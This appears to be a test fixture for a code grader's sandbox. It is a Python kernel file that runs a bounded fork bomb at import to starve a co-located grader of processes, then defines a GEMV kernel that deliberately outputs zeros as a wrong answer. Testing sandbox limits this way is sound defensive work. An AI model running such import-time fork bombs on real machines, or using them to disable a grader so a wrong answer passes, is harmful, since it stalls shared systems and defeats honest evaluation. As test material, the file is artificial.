"""Attack: a fork bomb at import. Every child sleeps and forks again, so the process table fills, the grader beside
it (a classmate's check) cannot start a process, and the machine stalls until someone reboots it. In the sandbox
the tasks it may hold are capped (grader.processes.sandbox.MAX_TASKS): forking fails there, not on the machine."""

import os
import time

import tilelang
import tilelang.language as T

forked, problem = 0, "no error"
started = time.monotonic()
# Bounded (a run without the sandbox must end too), but long enough to reach the sandbox's cap on a loaded
# 2-core machine: a 20 s bound once stopped it at 986 of 1024 forks, and the test of the cap failed.
while forked < 20000 and time.monotonic() - started < 60:
    try:
        child = os.fork()
    except OSError as error:
        problem = os.strerror(error.errno or 0)
        break
    if child == 0:
        time.sleep(120)  # held until the sandbox ends, which kills every process in it
        os._exit(0)
    forked += 1
raise RuntimeError(f"forked {forked} then: {problem}")


@tilelang.jit
def gemv(A, B, BLOCK_M: int, BLOCK_K: int, THREADS: int = 128):
    M, K = T.const("M, K")
    A: T.Tensor((M, K), T.float16)
    B: T.Tensor((K,), T.float16)
    C = T.empty((M,), T.float16)
    with T.Kernel(T.ceildiv(M, BLOCK_M), threads=THREADS) as bx:
        for i in T.Parallel(BLOCK_M):
            C[bx * BLOCK_M + i] = T.float16(0)  # the wrong answer every attack tries to pass off
    return C
